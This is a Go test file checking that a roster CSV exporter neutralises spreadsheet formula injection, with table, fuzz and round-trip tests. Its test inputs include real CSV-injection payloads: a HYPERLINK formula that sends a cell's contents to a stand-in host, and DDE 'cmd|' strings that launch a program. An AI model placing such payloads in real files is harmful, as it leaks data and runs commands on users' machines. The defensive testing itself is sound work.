package rostercsv

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	muster "github.com/muster-force/muster"
)

func TestDefuseFormula(t *testing.T) {
	for _, c := range []struct{ value, cell string }{
		{`=HYPERLINK("http://x/?"&A2,"open")`, `'=HYPERLINK("http://x/?"&A2,"open")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"=", "'="},
		{"'=1+1", "''=1+1"}, // a value that begins with the quote keeps it
		{"''@x", "'''@x"},
		// Figures only: a phone, a number, a date range; nothing to run.
		{"+375291234567", "+375291234567"},
		{"-5", "-5"},
		{"+1 (202) 555-0100", "+1 (202) 555-0100"},
		{"-", "-"},
		{"'+375291234567", "'+375291234567"},
		// Not at the start, or not a formula start at all.
		{"Smith = Jones", "Smith = Jones"},
		{"'quoted", "'quoted"},
		{"Іваноў", "Іваноў"},
		{"", ""},
	} {
		if got := defuseFormula(c.value); got != c.cell {
			t.Errorf("defuseFormula(%q) = %q, want %q", c.value, got, c.cell)
		}
		if got := restoreFormula(c.cell); got != c.value {
			t.Errorf("restoreFormula(%q) = %q, want %q", c.cell, got, c.value)
		}
	}
}

// FuzzDefuseFormula checks that no written cell is a formula and that
// reading it gives the value back.
func FuzzDefuseFormula(f *testing.F) {
	for _, s := range []string{"=1", "'=1", "+375291234567", "-x", "@", "''", "\t", "a=b"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		cell := defuseFormula(s)
		if isFormula(cell) {
			t.Fatalf("defuseFormula(%q) = %q, still a formula", s, cell)
		}
		if back := restoreFormula(cell); back != s {
			t.Fatalf("restoreFormula(defuseFormula(%q)) = %q", s, back)
		}
	})
}

func TestWriterDefusesEveryCell(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf)
	rec := []string{"A-1", "=1+1", "+375291234567", "@x"}
	if err := w.WriteAll([][]string{rec}); err != nil {
		t.Fatal(err)
	}
	if want := "A-1,'=1+1,+375291234567,'@x\n"; buf.String() != want {
		t.Errorf("wrote %q, want %q", buf.String(), want)
	}
	if rec[1] != "=1+1" {
		t.Error("Write changed the caller's record")
	}
}

// TestFormulaRoundTrip exports members whose text fields are formulas and
// imports the file back: the file holds no formula, and the members come
// back as they were.
func TestFormulaRoundTrip(t *testing.T) {
	m := muster.Member{ServiceNumber: "A-1", FamilyName: "=HYPERLINK(\"http://x/\",\"x\")", GivenName: "'=quoted",
		BirthDate: muster.NewDate(1990, 1, 2), Unit: "U1", Position: "@SUM(A1)", Status: muster.StatusActive,
		Phone: "+375291234567", Employer: "-1+cmd|x"}
	var buf bytes.Buffer
	w := NewMemberWriter(&buf)
	if err := w.Write(&m); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, cell := range rows[1] {
		if isFormula(cell) {
			t.Errorf("the export holds the formula %q", cell)
		}
	}
	checkRoundTrip(t, []muster.Member{m})
}
